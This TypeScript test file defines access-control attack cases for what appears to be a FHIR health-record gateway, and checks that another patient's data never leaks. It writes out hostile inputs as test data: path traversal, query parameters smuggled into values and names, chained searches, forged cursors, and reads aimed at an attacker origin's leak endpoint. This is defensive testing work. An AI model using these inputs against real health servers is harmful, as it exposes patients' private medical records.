import type { AttackControl, FrameAttack } from '../attack-case.ts';
import type { AttackKit } from '../attack-kit.ts';
import { allOf, nothingLeaked, nothingOfOther, otherNotAsked, realmIntact } from '../verdicts.ts';

type Facts = AttackKit['facts'];

interface Question {
  id: string;
  title: string;
  method?: 'fhir.read' | 'fhir.search';
  /** One call or several. */
  ask: (facts: Facts) => object | readonly object[];
  /** The server may be asked where only its answer can tell whose record it is. */
  mayAsk?: boolean;
  /** Default `bare`; null where a bare workplace’s server refuses it as well. */
  control?: AttackControl | null;
}

const QUESTIONS: readonly Question[] = [
  {
    id: 't02-other-patient',
    title: 'Reads another patient by her id',
    ask: ({ otherPatient }) => ({ reference: `Patient/${otherPatient}` }),
  },
  {
    id: 't02-other-record',
    title: 'Reads an Observation of another patient by its id',
    ask: ({ otherObservation }) => ({ reference: `Observation/${otherObservation}` }),
    control: 'compartment-off',
    mayAsk: true,
  },
  {
    id: 't02-search-other',
    title: 'Searches with another patient named as patient, subject or id',
    method: 'fhir.search',
    ask: ({ otherPatient }) => [
      { resourceType: 'Observation', parameters: { patient: otherPatient } },
      { resourceType: 'Observation', parameters: { subject: `Patient/${otherPatient}` } },
      { resourceType: 'Patient', parameters: { _id: otherPatient } },
    ],
  },
  {
    id: 't02-search-unconfined',
    title: 'Searches without naming any patient',
    method: 'fhir.search',
    ask: ({ otherObservation }) => [
      { resourceType: 'Patient', parameters: {} },
      { resourceType: 'Observation', parameters: { _id: otherObservation } },
    ],
    mayAsk: true,
  },
  {
    id: 't02-several-patients',
    title: 'Names two patients, in a list and by repeating the parameter',
    method: 'fhir.search',
    ask: ({ patient, otherPatient }) => [
      { resourceType: 'Observation', parameters: { patient: `${patient},${otherPatient}` } },
      { resourceType: 'Observation', parameters: { patient: [patient, otherPatient] } },
    ],
  },
  {
    id: 't02-include',
    title: 'Lets a search bring other records along by _include and _revinclude',
    method: 'fhir.search',
    ask: () => [
      { resourceType: 'Patient', parameters: { _include: 'Patient:link' } },
      { resourceType: 'Practitioner', parameters: { _revinclude: 'Observation:performer' } },
      { resourceType: 'Patient', parameters: { _include: '*' } },
    ],
    mayAsk: true,
  },
  {
    id: 't02-chained',
    title: 'Asks for another patient by a chained parameter',
    method: 'fhir.search',
    ask: ({ otherPatient }) => [
      { resourceType: 'Observation', parameters: { 'subject:Patient._id': otherPatient } },
      { resourceType: 'Observation', parameters: { 'patient._id': otherPatient } },
    ],
  },
  {
    id: 't02-has',
    title: 'Asks for another patient by reverse chaining',
    method: 'fhir.search',
    ask: ({ otherObservation }) => ({
      resourceType: 'Patient',
      parameters: { '_has:Observation:patient:_id': otherObservation },
    }),
    control: null,
    mayAsk: true,
  },
  {
    id: 't02-everything',
    title: 'Asks for everything of another patient',
    ask: ({ otherPatient }) => [
      { reference: `Patient/${otherPatient}/$everything` },
      { reference: 'Patient/$everything' },
    ],
  },
  {
    id: 't02-absolute-url',
    title: 'Reads by an absolute URL, on the server and on the attacker’s, where a token might come along',
    ask: ({ fhirBaseUrl, otherPatient, attackerOrigin }) => [
      { reference: `${fhirBaseUrl}/Patient/${otherPatient}` },
      { reference: `${attackerOrigin}/leak/read/Patient/1` },
      { reference: `//${attackerOrigin.replace(/^https?:\/\//, '')}/leak/read/1` },
    ],
  },
  {
    id: 't02-dot-dot',
    title: 'Climbs out of its path with dots, plain and encoded',
    ask: ({ patient, otherPatient }) => [
      { reference: `Patient/${patient}/../${otherPatient}` },
      { reference: `Observation/../Patient/${otherPatient}` },
      { reference: `Observation/%2e%2e%2fPatient%2f${otherPatient}` },
      { reference: `Observation/..\\Patient\\${otherPatient}` },
    ],
  },
  {
    id: 't02-history',
    title: 'Reads the history of another patient’s record',
    ask: ({ otherPatient, otherObservation }) => [
      { reference: `Observation/${otherObservation}/_history/1` },
      { reference: `Patient/${otherPatient}/_history` },
    ],
    mayAsk: true,
  },
  {
    id: 't02-smuggled-query',
    title: 'Hides a second parameter inside a value and inside a name',
    method: 'fhir.search',
    ask: ({ otherPatient }) => [
      { resourceType: 'Observation', parameters: { code: `x&patient=${otherPatient}` } },
      { resourceType: 'Observation', parameters: { [`code=x&patient`]: otherPatient } },
      { resourceType: 'Observation', parameters: { 'patient:not': 'x' } },
      { resourceType: 'Observation', parameters: { 'subject:identifier': `|${otherPatient}` } },
    ],
    mayAsk: true,
  },
  {
    id: 't02-type-as-path',
    title: 'Writes a path where the type of a search belongs',
    method: 'fhir.search',
    ask: ({ otherPatient }) => [
      { resourceType: `Patient/${otherPatient}`, parameters: {} },
      { resourceType: 'Observation/_search', parameters: { patient: otherPatient } },
      { resourceType: `Observation?patient=${otherPatient}&x=`, parameters: {} },
    ],
  },
  {
    id: 't02-forged-cursor',
    title: 'Asks for the next page of a search that was never its own',
    method: 'fhir.search',
    ask: ({ fhirBaseUrl, otherPatient }) => [
      {
        resourceType: 'Observation',
        cursor: `${fhirBaseUrl}/Observation?patient=${otherPatient}`.slice(0, 64),
      },
      { resourceType: 'Observation', cursor: crypto.randomUUID() },
    ],
  },
];

function questionCase({
  id,
  title,
  method = 'fhir.read',
  ask,
  mayAsk,
  control = 'bare',
}: Question): FrameAttack {
  return {
    id,
    threat: 2,
    kind: 'frame',
    title,
    ...(control && { control }),
    rejected: mayAsk
      ? 'Nothing of the other patient crosses the port.'
      : 'The FHIR server is not asked, and nothing of the other patient crosses the port.',
    act: async (kit) => {
      const { lease } = await kit.join();
      for (const question of [ask(kit.facts)].flat()) await kit.call(method, { lease, ...question });
    },
    verdict: allOf(realmIntact, nothingOfOther, nothingLeaked, ...(mayAsk ? [] : [otherNotAsked])),
  };
}

/** Row 2: reading somebody else's record. */
export const OTHER_PATIENTS: readonly FrameAttack[] = [
  ...QUESTIONS.map(questionCase),
  {
    id: 't02-batch',
    threat: 2,
    kind: 'frame',
    title: 'Saves a batch whose entries read another patient',
    rejected: 'Nothing is sent to the FHIR server.',
    act: async (kit) => {
      const { lease } = await kit.join();
      const request = { method: 'GET', url: `Patient/${kit.facts.otherPatient}` };
      const bundle = { resourceType: 'Bundle', type: 'batch', entry: [{ request }] };
      await kit.call('fhir.save', { lease, operationId: crypto.randomUUID(), resources: [bundle] });
    },
    verdict: allOf(realmIntact, nothingOfOther, otherNotAsked, ({ requests }) =>
      requests.some(({ method, url }) => method === 'POST' && url === '/fhir')
        ? 'the batch was sent'
        : undefined,
    ),
  },
];
